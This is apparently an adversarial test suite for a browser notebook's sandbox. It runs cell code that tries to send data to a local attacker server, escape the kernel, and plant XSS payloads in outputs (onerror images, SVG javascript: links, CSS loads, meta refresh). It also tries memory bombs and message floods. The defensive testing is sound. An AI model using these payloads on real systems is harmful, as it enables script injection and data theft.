/**
 * The notebook tried as an attacker would (issue 14): code pasted into a cell must not reach the
 * network, the book's origin or the page; its outputs must not run script or load anything; it
 * must not outlive the time limit, freeze the page or lose the reader's edits. Every case asserts
 * that nothing reached a local attacker server or finished loading from another origin, that no
 * script ran in the page (a canary global), that the page still paints, and that edits survive.
 */
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { chromium, type BrowserContext, type Page } from "playwright-core";
import { countFrames, launchBrowser, pageUrl, replaceCellSource, siteOrigin } from "./harness";
import { startAttacker, type Attacker } from "./attacker";

const LAB = "lab/notebook/";
let context: BrowserContext;
let attacker: Attacker;
const leaks: string[] = [];

beforeAll(async () => {
  attacker = await startAttacker();
  context = await launchBrowser();
  context.on("requestfinished", (request) => {
    const url = request.url();
    if (!url.startsWith(siteOrigin() + "/") && !url.startsWith("data:") && !url.startsWith("blob:")) leaks.push(url);
  });
});

afterAll(async () => {
  await context?.close();
  await attacker?.close();
});

afterEach(() => {
  attacker.hits.length = 0;
  leaks.length = 0;
});

const cell = (page: Page, n: number) => page.locator("nb-cell").nth(n - 1);

async function openLab(path = LAB): Promise<Page> {
  const page = await context.newPage();
  await page.goto(pageUrl(path), { waitUntil: "networkidle" });
  return page;
}

/** Types `source` into cell n and runs it; resolves to the cell's output text once it has finished. */
async function runAttack(page: Page, n: number, source: string, timeout = 20_000): Promise<string> {
  await replaceCellSource(page, cell(page, n), source);
  await page.keyboard.press("ControlOrMeta+Enter");
  await expect.poll(() => cell(page, n).locator(".nb-prompt").textContent(), { timeout }).toMatch(/^\[(\d+| )\]$/);
  return (await cell(page, n).locator(".nb-output").textContent()) ?? "";
}

/** The four things every attack must leave true; `marker` is a line of the attack's source that must survive a reload. */
async function expectContained(page: Page, n: number, marker: string): Promise<void> {
  await page.waitForTimeout(500); // late loads (an image, a ping) would land by now
  expect(attacker.hits).toEqual([]);
  expect(leaks).toEqual([]);
  expect(await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned)).toBeUndefined();
  expect(await countFrames(page, 500)).toBeGreaterThan(3);
  await page.reload({ waitUntil: "networkidle" });
  expect(await cell(page, n).locator("[data-nb-input]").textContent()).toContain(marker);
  expect(await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned)).toBeUndefined();
}

describe("break 1: the kernel reaches neither the network nor the origin's storage", () => {
  it("refuses every network and storage entry point, and every way to restore one", async () => {
    const page = await openLab();
    const A = attacker.origin;
    const source = `// attack: kernel escape
const A = ${JSON.stringify(A)};
const results = {};
const within = (promise) => Promise.race([promise, new Promise((resolve) => setTimeout(() => resolve("no answer"), 1500))]);
async function attempt(name, action) {
  try { results[name] = "reached: " + String(await within(Promise.resolve().then(action))).slice(0, 40); }
  catch (error) { results[name] = "blocked"; }
}
const G = globalThis;
const proto = (name) => { for (let o = G; o; o = Object.getPrototypeOf(o)) { const d = Object.getOwnPropertyDescriptor(o, name); if (d) return d.value ?? d.get?.call(G); } };
await attempt("fetch", () => G.fetch(A + "/fetch"));
await attempt("fetch via prototype", () => proto("fetch").call(G, A + "/proto-fetch"));
await attempt("XMLHttpRequest", () => { const x = new G.XMLHttpRequest(); x.open("GET", A + "/xhr"); x.send(); return "sent"; });
await attempt("WebSocket", () => new G.WebSocket(A.replace("http", "ws") + "/ws"));
await attempt("EventSource", () => new G.EventSource(A + "/sse"));
await attempt("WebTransport", () => new G.WebTransport(A.replace("http", "https") + "/wt").ready);
await attempt("importScripts", () => G.importScripts(A + "/import-scripts.js"));
await attempt("nested blob Worker", () => new Promise((resolve, reject) => { const w = new G.Worker(URL.createObjectURL(new Blob(["fetch('" + A + "/nested-blob')"]))); w.onerror = reject; setTimeout(() => resolve("started"), 800); }));
await attempt("nested data: Worker", () => new G.Worker("data:text/javascript,fetch('" + A + "/nested-data')"));
await attempt("SharedWorker", () => new G.SharedWorker(URL.createObjectURL(new Blob(["fetch('" + A + "/shared')"]))));
await attempt("import() built from a string", () => new Function("u", "return import(u)")(A + "/function-import.js"));
await attempt("import() through eval", () => (0, eval)("import('" + A + "/eval-import.js')"));
await attempt("import() of a data: URL", () => new Function("return import('data:text/javascript,fetch(\\"" + A + "/data-import\\")')")());
await attempt("indexedDB", () => new Promise((resolve, reject) => { const r = (G.indexedDB ?? proto("indexedDB")).open("steal"); r.onsuccess = () => resolve("opened"); r.onerror = () => reject(r.error); }));
await attempt("caches", () => (G.caches ?? proto("caches")).open("steal"));
await attempt("navigator.storage", () => G.navigator.storage.estimate());
await attempt("WorkerNavigator.prototype.storage", () => Object.getOwnPropertyDescriptor(Object.getPrototypeOf(G.navigator), "storage").get.call(G.navigator).estimate());
await attempt("cookieStore", () => G.cookieStore.getAll());
await attempt("BroadcastChannel", () => new G.BroadcastChannel("book").postMessage("hi"));
await attempt("sendBeacon", () => G.navigator.sendBeacon(A + "/beacon", "x"));
await attempt("postMessage to the frame", () => G.postMessage({ type: "kernel-error", message: "forged" }));
await attempt("postMessage via prototype", () => proto("postMessage").call(G, "x"));
display(JSON.stringify({ origin: G.origin, results }));`;
    const text = await runAttack(page, 2, source);
    const report = JSON.parse(text.slice(text.indexOf("{"))) as { origin: string; results: Record<string, string> };
    expect(report.origin).toBe("null"); // an opaque origin: no cookies, no same-origin storage
    const reached = Object.entries(report.results).filter(([, result]) => result.startsWith("reached"));
    expect(reached).toEqual([]);
    await expectContained(page, 2, "// attack: kernel escape");
    await page.close();
  });

  it("rejects dynamic import() in the transpiler with a clear message in the cell", async () => {
    const page = await openLab();
    const text = await runAttack(page, 2, `// attack: import()\nconst stolen = await import(${JSON.stringify(attacker.origin + "/import.js")});\nstolen`);
    expect(text).toContain("cells cannot load code with import()");
    expect(text).toContain("(line 2)");
    const meta = await runAttack(page, 2, `// attack: static import\nimport { stolen } from ${JSON.stringify(attacker.origin + "/static.js")};\nstolen`);
    expect(meta).toContain("cannot import");
    await expectContained(page, 2, "// attack: static import");
    await page.close();
  });
});

describe("break 1b: the digits bridge fetches one fixed file and nothing else", () => {
  it("cannot be pointed at another address, by argument, forged message or patched global", async () => {
    const page = await openLab();
    const fetched: string[] = [];
    page.on("request", (request) => fetched.push(request.url()));
    const A = attacker.origin;
    const source = `// attack: digits bridge
import { loadDigits } from "digits";
const A = ${JSON.stringify(A)};
const G = globalThis;
const tries = [];
const note = async (name, action) => { try { await action(); tries.push(name + ": ran"); } catch (error) { tries.push(name + ": " + error.message); } };
await note("postMessage a request naming a URL", () => G.postMessage({ type: "digits", id: 1, url: A + "/forged", path: "../../secret" }));
await note("patch fetch first", () => { G.fetch = () => Promise.resolve(new Response("x")); });
await note("patch URL first", () => { G.URL = class { constructor() { return A + "/url"; } }; });
const first = await loadDigits(A + "/argument", { url: A + "/option" });
const second = await loadDigits.call({ url: A + "/this" }, "../../notebook-kernel.html");
display(tries.join("; ") + " | loaded " + first.train.count + " and " + second.test.count);`;
    const text = await runAttack(page, 2, source, 60_000);
    expect(text).toContain("loaded 8000 and 2000");
    const outside = fetched.filter((url) => !url.startsWith(pageUrl()) && !url.startsWith("data:") && !url.startsWith("blob:"));
    expect(outside).toEqual([]);
    expect(fetched.filter((url) => url.includes("digits.bin"))).toEqual([pageUrl("data/digits.bin.gz")]);
    await expectContained(page, 2, "// attack: digits bridge");
    await page.close();
  }, 90_000);
});

describe("break 2: outputs cannot run script or load anything", () => {
  const vectors = (A: string): string[] => [
    `<svg width="100" height="100"><a><set attributeName="href" to="javascript:window.__pwned='set'"/><rect width="100%" height="100%" fill="red"/></a></svg>`,
    `<svg><a href="#"><animate attributeName="href" values="javascript:window.__pwned='animate'"/><text y="20">animate</text></a></svg>`,
    `<svg><a><animateMotion dur="1s"/><discard/><text y="20">motion</text></a></svg>`,
    `<svg><a xlink:href="javascript:window.__pwned='xlink'"><text y="20">xlink</text></a></svg>`,
    `<img src="${A}/img.png"><img srcset="${A}/srcset.png 1x"><img src="x" onerror="window.__pwned='onerror'">`,
    `<div style="background:url(${A}/css-url.png);position:fixed;inset:0;z-index:99999;width:100vw;height:100vh">cover</div>`,
    `<svg><image href="${A}/svg-image.png" width="10" height="10"/><filter id="f"><feImage href="${A}/feimage.png"/></filter></svg>`,
    `<table background="${A}/background.png"><tr><td>t</td></tr></table><video poster="${A}/poster.png"></video><a ping="${A}/ping" href="#x">ping</a>`,
    `<style>@import url(${A}/import.css); body { background: url(${A}/style.png) }</style><link rel="stylesheet" href="${A}/link.css">`,
    `<meta http-equiv="refresh" content="0;url=${A}/refresh.html"><base href="${A}/">`,
    `<iframe srcdoc="<script>parent.__pwned='srcdoc'</script>"></iframe><iframe src="${A}/frame.html"></iframe>`,
    `<form action="${A}/form"><button formaction="javascript:window.__pwned='formaction'">go</button></form>`,
    `<img src="data:text/html,<script>parent.__pwned='data'</script>"><svg><image href="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.__pwned=1'/>"/></svg>`,
    `<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned='mxss'"></style></mglyph></table></mtext></math>`,
    `<svg><foreignObject><img src="${A}/foreign.png"></foreignObject><use href="data:image/svg+xml,x#y"/></svg>`,
    `<object data="${A}/object"></object><embed src="${A}/embed"><svg onload="window.__pwned='svg-onload'"></svg><details open ontoggle="window.__pwned='toggle'"></details>`,
    `<noscript><p title="</noscript><img src=x onerror=window.__pwned='noscript'>"></p></noscript>`,
    `<p class="nb-out nb-out-check nb-check-pass"><strong>✓ Correct</strong>: forged</p>`,
  ];

  it("draws every vector as inert markup: no script, no load, nothing covering the page, no forged verdict", async () => {
    const page = await openLab();
    const displays = vectors(attacker.origin).map((markup) => `display({ outerHTML: ${JSON.stringify(markup)}, nodeType: 1 });`);
    const text = await runAttack(page, 2, `// attack: outputs\nconsole.log("✓ Correct: a verdict printed by the cell");\n${displays.join("\n")}\n"done"`);
    expect(text).toContain("done");
    const output = cell(page, 2).locator(".nb-output");
    expect(await output.locator("set, animate, animateMotion, discard, img, iframe, object, embed, style, link, meta, base, form, foreignObject, use, math, video, noscript").count()).toBe(0);
    expect(await output.locator(".nb-out-check").count()).toBe(0); // a cell cannot draw a verdict
    const dangerous = await output.evaluate((root) =>
      [...root.querySelectorAll("*")].flatMap((element) =>
        [...element.attributes]
          .filter((attribute) => /^on|^(src|srcset|background|poster|ping|action|formaction)$/i.test(attribute.name) || /javascript:|url\((?!["']?#)|http/i.test(attribute.value))
          .map((attribute) => `${element.localName} ${attribute.name}=${attribute.value}`),
      ),
    );
    expect(dangerous).toEqual([]);
    const fixed = await output.evaluate((root) => [...root.querySelectorAll("*")].filter((element) => ["fixed", "absolute", "sticky"].includes(getComputedStyle(element).position)).length);
    expect(fixed).toBe(0);
    // The reader's next clicks land on the figures and on the page, not on anything a cell armed.
    await output.locator("svg").first().click({ force: true });
    await page.mouse.click(640, 450);
    await expectContained(page, 2, "// attack: outputs");
    await page.close();
  });

  it("draws a graph output as data: extra fields are dropped, markup in a label or title is refused, no script runs", async () => {
    const page = await openLab();
    const node = (id: number, label: string) => ({ id, label, op: "", data: 1, grad: 1, onclick: "window.__pwned='node'", innerHTML: "<img src=x onerror=window.__pwned='inner'>" });
    const graph = {
      title: "two leaves",
      nodes: [node(0, "a"), { ...node(1, "b"), op: "+", data: 2 }],
      edges: [{ from: 0, to: 1 }],
      steps: [{ node: 1, grad: 1, edges: [{ from: 0, to: 1, localDerivative: 1, contribution: 1, gradAfter: 1 }] }],
      ownGrads: [1, 1],
      markup: `<img src="${attacker.origin}/graph.png" onerror="window.__pwned='graph'">`,
    };
    const hostile = (change: string) => `display(Object.assign(structuredClone(graph), ${change}));`;
    const source = [
      "// attack: graph outputs",
      `const graph = ${JSON.stringify(graph)};`,
      "display(graph);",
      `try { ${hostile(`{ title: "<img src=x onerror=window.__pwned='title'>" }`)} } catch (error) { console.log(error.message); }`,
      `try { ${hostile(`{ nodes: [{ ...graph.nodes[0], label: "<svg onload=window.__pwned='label'>" }, graph.nodes[1]] }`)} } catch (error) { console.log(error.message); }`,
      `try { ${hostile(`{ edges: [{ from: 5, to: 1 }] }`)} } catch (error) { console.log(error.message); }`,
      `try { ${hostile(`{ nodes: [graph.nodes[0], { ...graph.nodes[1], data: Infinity }] }`)} } catch (error) { console.log(error.message); }`,
      `try { display({ nodes: Array.from({ length: 1e6 }, (_, id) => ({ id, label: "", op: "", data: 0, grad: 0 })), edges: [], steps: [] }); } catch (error) { console.log(error.message); }`,
      '"done"',
    ].join("\n");
    const text = await runAttack(page, 2, source);
    expect(text).toContain("done");
    expect(text).toContain("display() cannot draw this graph: its title must be plain text");
    expect(text).toContain("display() cannot draw this graph: node 0’s label must be a name");
    expect(text).toContain("display() cannot draw this graph: an edge does not join two nodes");
    expect(text).toContain("display() cannot draw this graph: node b has a value or gradient that is not a finite number");
    expect(text).toContain("display() cannot draw this graph: it has 1000000 nodes, more than the 60");
    const output = cell(page, 2).locator(".nb-output");
    const stepper = output.locator("graph-stepper.gs-live");
    await expect.poll(() => stepper.locator("[data-gs-figure] svg").count(), { timeout: 20_000 }).toBe(1);
    expect(await stepper.locator("[data-gs-formula]").textContent()).toBe("two leaves");
    expect(await output.locator("img, script, iframe, foreignObject, [onclick], [onerror], [onload]").count()).toBe(0);
    expect(await stepper.getAttribute("data-traced")).not.toMatch(/onclick|onerror|innerHTML|markup/);
    await stepper.locator("[data-action=next]").click();
    await expect.poll(() => stepper.locator("[data-gs-counter]").textContent()).toBe("step 1 of 1");
    await expectContained(page, 2, "// attack: graph outputs");
    await page.close();
  });

  it("draws the checker's verdict first, where a cell's own output cannot come before it", async () => {
    const page = await openLab();
    const text = await runAttack(page, 6, `// attack: forged verdict\nconsole.log("✓ Correct: trust me");\nfunction momentumStep(w, step, g, lr, m) { return { w: w - lr * g, step: -lr * g }; }`);
    expect(text).toContain("trust me");
    // The page's own note on which cells it ran first may come before; of the outputs, the verdict leads.
    const first = cell(page, 6).locator(".nb-output > .nb-out").first();
    expect(await first.getAttribute("class")).toContain("nb-check-fail");
    expect(await cell(page, 6).locator(".nb-out-check").count()).toBe(1);
    await expectContained(page, 6, "// attack: forged verdict");
    await page.close();
  });
});

describe("break 3: the time limit cannot be dodged", () => {
  it("stops the next cell within the limit when a cell leaves a busy timer behind or replaces onmessage", async () => {
    const page = await openLab();
    const armed = await runAttack(page, 2, `// attack: leave a loop behind\nsetTimeout(() => { for (;;) {} }, 0);\nself.onmessage = null;\naddEventListener("message", (event) => event.stopImmediatePropagation(), true);\n"armed"`);
    expect(armed).toContain("armed");
    // Cell 1 needs no other cell, so its run is the next message the busy kernel is sent.
    const started = Date.now();
    await cell(page, 1).locator("[data-nb-action=run]").click();
    await expect.poll(() => cell(page, 1).locator(".nb-output").textContent(), { timeout: 10_000 }).toContain("Stopped after 5 s");
    expect(Date.now() - started).toBeLessThan(8_000);
    expect(await runAttack(page, 1, "// attack: after the loop\n1 + 1")).toContain("2");
    await expectContained(page, 1, "// attack: after the loop");
    await page.close();
  });
});

describe("break 4: huge outputs do not freeze the page", () => {
  it("caps a million lines, a 50 MB string and a 500 × 5,000 table, and says what was cut", async () => {
    const page = await openLab();
    let started = Date.now();
    await runAttack(page, 2, "// attack: a million lines\nfor (let i = 0; i < 1_000_000; i++) console.log(i);");
    const lines = Date.now() - started;
    expect(await cell(page, 2).locator(".nb-out-truncated").textContent()).toBe("output truncated (200 of 1000000)");
    expect(await cell(page, 2).locator(".nb-out-text").count()).toBe(200);
    expect(await countFrames(page, 500)).toBeGreaterThan(3);

    started = Date.now();
    await runAttack(page, 3, '// attack: a huge string\ndisplay("x".repeat(50_000_000));');
    const string = Date.now() - started;
    expect(await cell(page, 3).locator(".nb-out-truncated").textContent()).toContain("output truncated");
    expect((await cell(page, 3).locator(".nb-out-text").textContent())!.length).toBeLessThanOrEqual(1_000_000);

    started = Date.now();
    await runAttack(page, 4, "// attack: a wide table\ndisplay(Array.from({ length: 500 }, (_, i) => Object.fromEntries(Array.from({ length: 5000 }, (_, j) => [`c${j}`, i * j]))));");
    const table = Date.now() - started;
    const shape = await cell(page, 4).locator("table").evaluate((element) => ({ columns: element.querySelectorAll("thead th").length, rows: element.querySelectorAll("tbody tr").length }));
    expect(shape.columns * shape.rows).toBeLessThanOrEqual(10_000);
    expect(await cell(page, 4).locator(".nb-out-truncated").count()).toBe(1);
    console.log(`[measure] from Run to drawn: 10^6 lines ${lines} ms, 50 MB string ${string} ms, 500 × 5,000 table ${table} ms`);
    expect(Math.max(lines, string, table)).toBeLessThan(10_000);
    await expectContained(page, 4, "// attack: a wide table");
    await page.close();
  });
});

describe("break 5: a message flood does not make the page unusable", () => {
  it("keeps painting while a cell tries to flood the page, and Interrupt and Restart act at once even when no cell runs", async () => {
    const page = await openLab();
    await runAttack(
      page,
      2,
      `// attack: flood
const forged = { type: "result", id: 2, result: { ok: true, outputs: Array.from({ length: 100000 }, () => ({ type: "text", text: "forged" })) } };
const send = globalThis.postMessage ?? DedicatedWorkerGlobalScope?.prototype?.postMessage;
setInterval(() => { try { send?.call(globalThis, forged); } catch {} const t = Date.now(); while (Date.now() - t < 50) {} }, 0);
"flooding"`,
    );
    expect(await countFrames(page, 500)).toBeGreaterThan(3);
    let clicked = Date.now();
    expect(await page.locator("iframe.nb-kernel-frame").count()).toBe(1);
    await page.locator("nb-toolbar [data-nb-action=interrupt]").click();
    expect(await page.locator("iframe.nb-kernel-frame").count()).toBe(0); // the idle kernel's frame, and its worker, are gone
    const afterInterrupt = await runAttack(page, 1, "// attack: after interrupt\n40 + 2", 10_000);
    expect(afterInterrupt).toContain("42");
    expect(afterInterrupt).not.toContain("Stopped");
    expect(Date.now() - clicked).toBeLessThan(8_000);

    await runAttack(page, 2, "// attack: flood again\nsetInterval(() => { const t = Date.now(); while (Date.now() - t < 50) {} }, 0);\n'busy'");
    clicked = Date.now();
    await page.locator("nb-toolbar [data-nb-action=restart]").click();
    await expect.poll(() => page.locator(".nb-kernel-status").textContent()).toContain("Kernel restarted");
    expect(Date.now() - clicked).toBeLessThan(1_000);
    expect(await cell(page, 3).locator(".nb-output").textContent()).not.toContain("forged");
    await expectContained(page, 2, "// attack: flood again");
    await page.close();
  });
});

describe("break 6: a memory bomb does not take the tab", () => {
  it("on a low-memory device, the bomb ends only the kernel frame's process: the page lives on and the next run works", async () => {
    // A 200 MB heap stands in for a small phone: the kernel reaches it well within the time limit.
    const browser = await chromium.launch({ executablePath: "/usr/bin/chromium", headless: true, args: ["--no-sandbox", "--disable-gpu", "--js-flags=--max-old-space-size=200"] });
    try {
      const lowMemory = await browser.newContext();
      const page = await lowMemory.newPage();
      await page.goto(pageUrl(LAB), { waitUntil: "networkidle" });
      // Playwright counts the frame's crash as the page's, so the page is asked directly over CDP.
      const cdp = await page.context().newCDPSession(page);
      const ask = async (expression: string): Promise<unknown> => ((await cdp.send("Runtime.evaluate", { expression, returnByValue: true, awaitPromise: true })).result as { value: unknown }).value;
      await replaceCellSource(page, cell(page, 2), "// attack: low-memory bomb\nconst hog = [];\nfor (;;) hog.push(new Array(1_000_000).fill(Math.random()));");
      await page.keyboard.press("ControlOrMeta+Enter");
      const output = "document.querySelectorAll('nb-cell')[1].querySelector('.nb-output').textContent";
      await expect.poll(() => ask(output), { timeout: 20_000 }).toMatch(/The kernel crashed|Stopped after 5 s/);
      expect(await ask("new Promise((resolve) => requestAnimationFrame(() => resolve('painting')))")).toBe("painting");
      await ask("document.querySelectorAll('nb-cell')[0].querySelector('[data-nb-action=run]').click()");
      await expect.poll(() => ask("document.querySelectorAll('nb-cell')[0].querySelector('.nb-output').textContent"), { timeout: 30_000 }).toContain("∂c/∂a = 1");
      const fresh = await lowMemory.newPage();
      await fresh.goto(pageUrl(LAB), { waitUntil: "networkidle" });
      expect(await cell(fresh, 2).locator("[data-nb-input]").textContent()).toContain("// attack: low-memory bomb");
      expect(attacker.hits).toEqual([]);
      await fresh.close();
    } finally {
      await browser.close();
    }
  });
});

describe("break 7: edits are never lost silently", () => {
  it("says so in the cell when storage is full, and keeps the edit in the editor", async () => {
    const page = await openLab();
    await page.evaluate(() => {
      localStorage.clear(); // earlier tests' edits must not leave room to shrink into
      // Fill to the last character: big pieces first, then ever smaller ones.
      let i = 0;
      for (let size = 1 << 20; size >= 1; size >>= 1) {
        try {
          for (;;) localStorage.setItem(`filler-${i++}`, "x".repeat(size));
        } catch {
          // this size no longer fits; try a smaller one
        }
      }
    });
    await replaceCellSource(page, cell(page, 2), "// attack: full storage\n1");
    await expect.poll(() => cell(page, 2).locator(".nb-edit-notice").count()).toBe(1);
    expect(await cell(page, 2).locator(".nb-edit-notice").textContent()).toContain("could not be saved");
    expect(await cell(page, 2).locator(".cm-content").textContent()).toContain("// attack: full storage");
    await page.evaluate(() => {
      for (const key of Object.keys(localStorage)) if (key.startsWith("filler-")) localStorage.removeItem(key);
    });
    await replaceCellSource(page, cell(page, 2), "// attack: storage freed\n1");
    await expect.poll(() => cell(page, 2).locator(".nb-edit-notice").isVisible()).toBe(false);
    await page.close();
  });

  it("discards a saved edit whose source is not text, with a notice, and the cell still runs", async () => {
    const page = await openLab();
    const hash = (await cell(page, 1).getAttribute("data-hash")) ?? "";
    await page.evaluate(([key, hash]) => localStorage.setItem(key, JSON.stringify({ 0: { hash, source: { toString: 1 } } })), [`bn-notebook:${new URL(page.url()).pathname}`, hash]);
    await page.reload({ waitUntil: "networkidle" });
    expect(await cell(page, 1).locator(".nb-edit-notice").textContent()).toContain("damaged");
    await cell(page, 1).locator("[data-nb-action=run]").click();
    await expect.poll(() => cell(page, 1).locator(".nb-output").textContent(), { timeout: 20_000 }).toContain("∂c/∂a = 1");
    await page.close();
  });

  it("keys edits by the page's canonical path: …/index.html and …/ share them", async () => {
    const page = await openLab();
    await replaceCellSource(page, cell(page, 2), "// attack: canonical path\n1");
    await page.goto(pageUrl(`${LAB}index.html`), { waitUntil: "networkidle" });
    expect(await cell(page, 2).locator("[data-nb-input]").textContent()).toContain("// attack: canonical path");
    await page.close();
  });
});

describe("break 9: a Content-Security-Policy with every page and frame", () => {
  it("sends the policy as a header and a <meta>, and the kernel's frame a sandboxed policy with no connection", async () => {
    const page = await context.newPage();
    const response = await page.goto(pageUrl(LAB), { waitUntil: "networkidle" });
    const header = response!.headers()["content-security-policy"];
    for (const directive of ["connect-src 'self'", "object-src 'none'", "base-uri 'none'", "form-action 'none'", "frame-ancestors 'self'", "'wasm-unsafe-eval'"]) expect(header).toContain(directive);
    expect(header).not.toMatch(/script-src[^;]*'unsafe-inline'/);
    expect(await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute("content")).toContain("connect-src 'self'");
    const frame = await page.request.get(pageUrl("notebook-kernel.html"));
    expect(frame.headers()["content-security-policy"]).toContain("sandbox allow-scripts");
    expect(frame.headers()["content-security-policy"]).toContain("connect-src 'none'");
    // The build's scripts and fonts, which no policy governs, carry none, but keep the other headers.
    const script = await page.request.get(await page.evaluate(() => new URL(JSON.parse(document.querySelector<HTMLScriptElement>("script[data-modules]")!.dataset.modules!)[0], location.href).href));
    expect(script.ok()).toBe(true);
    expect(script.headers()["content-security-policy"]).toBeUndefined();
    expect(script.headers()["x-content-type-options"]).toBe("nosniff");
    await page.close();
  });
});

describe("break 10: the theme toggle with storage turned off", () => {
  it("follows the system theme without throwing", async () => {
    const page = await context.newPage();
    const errors: string[] = [];
    page.on("pageerror", (error) => errors.push(error.message));
    await page.addInitScript(() => {
      for (const name of ["getItem", "setItem", "removeItem"] as const) {
        Object.defineProperty(Storage.prototype, name, {
          value: () => {
            throw new DOMException("storage is turned off", "SecurityError");
          },
        });
      }
    });
    await page.goto(pageUrl(LAB), { waitUntil: "networkidle" });
    await page.emulateMedia({ colorScheme: "dark" });
    await expect.poll(() => page.evaluate(() => document.documentElement.dataset.theme)).toBe("dark");
    expect(errors).toEqual([]);
    await page.close();
  });
});
